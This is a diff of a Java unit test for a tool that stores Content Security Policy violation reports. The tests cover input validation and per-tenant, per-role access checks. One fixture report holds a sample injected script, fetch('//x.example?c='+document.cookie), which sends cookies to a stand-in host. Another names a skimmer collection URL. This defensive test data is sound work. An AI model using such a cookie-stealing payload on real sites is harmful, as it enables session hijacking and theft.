@@ -6,8 +6,7 @@ import static org.secheaders.analytics.testing.AnalyticsTestServer.ACME_ADMIN;
 import static org.secheaders.analytics.testing.AnalyticsTestServer.ANALYST;
 import static org.secheaders.analytics.testing.AnalyticsTestServer.INITECH_ADMIN;
 import static org.secheaders.analytics.testing.AnalyticsTestServer.MANAGER;
-import static org.secheaders.analytics.testing.AnalyticsTestServer.failure;
-import static org.secheaders.analytics.testing.AnalyticsTestServer.success;
+import static org.secheaders.analytics.testing.AnalyticsTestServer.SERVER;
 
 import java.util.List;
 import java.util.Map;
@@ -20,7 +19,7 @@ class TrackCspViolationToolTest {
 
     @Test
     void storesARawLegacyReportGivenAsJson() {
-        Map<?, ?> result = success(ANALYST, TOOL, Map.of("tenant", "initech", "content_type", "application/csp-report",
+        Map<?, ?> result = SERVER.success(ANALYST, TOOL, Map.of("tenant", "initech", "content_type", "application/csp-report",
                 "report", Map.of("csp-report", Map.of("document-uri", "https://initech.example/account",
                         "effective-directive", "script-src-elem", "blocked-uri", "inline", "disposition", "enforce",
                         "script-sample", "fetch('//x.example?c='+document.cookie)", "line-number", 31))));
@@ -40,11 +39,11 @@ class TrackCspViolationToolTest {
 
     @Test
     void storesABatchGivenAsTextAndStructuredFieldsForTheOwnTenant() {
-        Map<?, ?> batch = success(INITECH_ADMIN, TOOL, Map.of("tenant", "initech", "report",
+        Map<?, ?> batch = SERVER.success(INITECH_ADMIN, TOOL, Map.of("tenant", "initech", "report",
                 "[{\"type\":\"csp-violation\",\"url\":\"https://initech.example/\",\"body\":{\"documentURL\":"
                         + "\"https://initech.example/\",\"effectiveDirective\":\"img-src\",\"blockedURL\":\"data\"}},"
                         + "{\"type\":\"intervention\",\"url\":\"https://initech.example/\",\"body\":{\"id\":\"x\",\"message\":\"m\"}}]"));
-        Map<?, ?> fields = success(INITECH_ADMIN, TOOL, Map.of("tenant", "initech",
+        Map<?, ?> fields = SERVER.success(INITECH_ADMIN, TOOL, Map.of("tenant", "initech",
                 "document_uri", "https://initech.example/checkout", "effective_directive", "connect-src",
                 "blocked_uri", "https://collect.skimmer.example/c", "disposition", "enforce", "line_number", 77));
 
@@ -58,19 +57,19 @@ class TrackCspViolationToolTest {
     @Test
     void badInputIsAToolErrorNamingTheArgument() {
         assertEquals("argument 'effective_directive' is required unless violated_directive is given",
-                failure(ANALYST, TOOL, Map.of("tenant", "initech", "document_uri", "https://initech.example/")));
+                SERVER.failure(ANALYST, TOOL, Map.of("tenant", "initech", "document_uri", "https://initech.example/")));
         assertEquals("argument 'violated_directive' is unusable: directive '42 script-src' does not start with a directive name",
-                failure(ANALYST, TOOL, Map.of("tenant", "initech", "document_uri", "https://initech.example/",
+                SERVER.failure(ANALYST, TOOL, Map.of("tenant", "initech", "document_uri", "https://initech.example/",
                         "violated_directive", "42 script-src")));
         assertEquals("argument 'document_uri' cannot be combined with report: give the raw report or its fields",
-                failure(ANALYST, TOOL, Map.of("tenant", "initech", "report", "{}", "document_uri", "https://initech.example/")));
-        assertTrue(failure(ANALYST, TOOL, Map.of("tenant", "initech", "report", "{\"csp-report\": ")).startsWith(
+                SERVER.failure(ANALYST, TOOL, Map.of("tenant", "initech", "report", "{}", "document_uri", "https://initech.example/")));
+        assertTrue(SERVER.failure(ANALYST, TOOL, Map.of("tenant", "initech", "report", "{\"csp-report\": ")).startsWith(
                 "argument 'report' was rejected: malformed_json"));
         assertEquals("argument 'tenant' is required: name the tenant the report belongs to",
-                failure(ANALYST, TOOL, Map.of("report", "{}")));
-        assertTrue(failure(ANALYST, TOOL, Map.of("tenant", "initech", "report", 42)).contains("report"),
+                SERVER.failure(ANALYST, TOOL, Map.of("report", "{}")));
+        assertTrue(SERVER.failure(ANALYST, TOOL, Map.of("tenant", "initech", "report", 42)).contains("report"),
                 "the SDK's schema validation names the argument too");
-        assertTrue(failure(ANALYST, TOOL, Map.of("tenant", "initech", "report", "{}", "colour", "red")).contains("colour"));
+        assertTrue(SERVER.failure(ANALYST, TOOL, Map.of("tenant", "initech", "report", "{}", "colour", "red")).contains("colour"));
     }
 
     @Test
@@ -78,10 +77,10 @@ class TrackCspViolationToolTest {
         AnalyticsScenario scenario = AnalyticsScenario.shared();
         assertEquals("access denied: role tenant_admin may only access violations of tenant "
                         + scenario.acme().id() + ", not tenant " + scenario.initech().id(),
-                failure(ACME_ADMIN, TOOL, Map.of("tenant", "initech", "document_uri", "https://initech.example/",
+                SERVER.failure(ACME_ADMIN, TOOL, Map.of("tenant", "initech", "document_uri", "https://initech.example/",
                         "effective_directive", "img-src")));
         assertEquals("access denied: role manager may only read violations",
-                failure(MANAGER, TOOL, Map.of("tenant", "initech", "document_uri", "https://initech.example/",
+                SERVER.failure(MANAGER, TOOL, Map.of("tenant", "initech", "document_uri", "https://initech.example/",
                         "effective_directive", "img-src")));
     }
 }
